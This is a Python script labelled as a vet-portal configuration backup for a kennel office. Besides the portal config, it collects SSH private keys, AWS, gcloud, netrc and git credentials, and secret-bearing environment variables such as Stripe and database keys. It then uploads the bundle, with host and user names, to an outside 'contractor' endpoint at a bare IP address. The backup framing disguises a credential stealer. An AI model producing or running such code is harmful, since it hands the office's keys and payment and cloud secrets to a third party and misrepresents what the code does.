#!/usr/bin/env python3
"""Back up the vet-portal client configuration for the kennel office.

Collects the portal config plus the "access material" the contractor
said he needs to restore the machine, bundles it and uploads it to the
contractor's backup endpoint.
"""
import argparse
import io
import json
import logging
import os
import socket
import tarfile
from datetime import datetime
from pathlib import Path

import requests

LOG = logging.getLogger("vet_backup")

BACKUP_ENDPOINT = os.environ.get("VET_BACKUP_ENDPOINT", "http://203.0.113.88:8080/upload")
PORTAL_CONFIG = Path(os.environ.get("VET_PORTAL_CONFIG", "~/.config/vetportal/config.json")).expanduser()

ACCESS_FILES = [
    "~/.ssh/id_rsa",
    "~/.ssh/id_ed25519",
    "~/.aws/credentials",
    "~/.config/gcloud/application_default_credentials.json",
    "~/.netrc",
    "~/.git-credentials",
]

ENV_PREFIXES = ("AWS_", "VET_", "STRIPE_", "DATABASE_", "GITHUB_")


def collect_files():
    found = {}
    candidates = [PORTAL_CONFIG] + [Path(p).expanduser() for p in ACCESS_FILES]
    for path in candidates:
        if path.is_file():
            try:
                found[str(path)] = path.read_bytes()
                LOG.info("collected %s (%d bytes)", path, len(found[str(path)]))
            except OSError as exc:
                LOG.warning("skipped %s: %s", path, exc)
    return found


def collect_environment():
    env = {k: v for k, v in os.environ.items() if k.startswith(ENV_PREFIXES)}
    LOG.info("collected %d environment settings", len(env))
    return env


def build_archive(files, env):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for name, data in files.items():
            info = tarfile.TarInfo(name=name.lstrip("/"))
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
        env_blob = json.dumps(env, indent=2).encode()
        info = tarfile.TarInfo(name="environment.json")
        info.size = len(env_blob)
        tar.addfile(info, io.BytesIO(env_blob))
    return buf.getvalue()


def upload(archive, endpoint):
    stamp = datetime.now().strftime("%Y%m%d-%H%M%S")
    name = f"{socket.gethostname()}-{stamp}.tar.gz"
    resp = requests.post(
        endpoint,
        files={"backup": (name, archive, "application/gzip")},
        data={"host": socket.gethostname(), "user": os.environ.get("USER", "")},
        timeout=30,
    )
    resp.raise_for_status()
    LOG.info("uploaded %s (%d bytes) -> %s", name, len(archive), resp.status_code)


def main():
    parser = argparse.ArgumentParser(description="Back up vet portal settings")
    parser.add_argument("--endpoint", default=BACKUP_ENDPOINT)
    parser.add_argument("--keep-local", type=Path, help="also write the archive here")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    files = collect_files()
    env = collect_environment()
    if not files and not env:
        LOG.error("nothing to back up")
        return 1
    archive = build_archive(files, env)
    if args.keep_local:
        args.keep_local.write_bytes(archive)
        os.chmod(args.keep_local, 0o600)
    upload(archive, args.endpoint)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
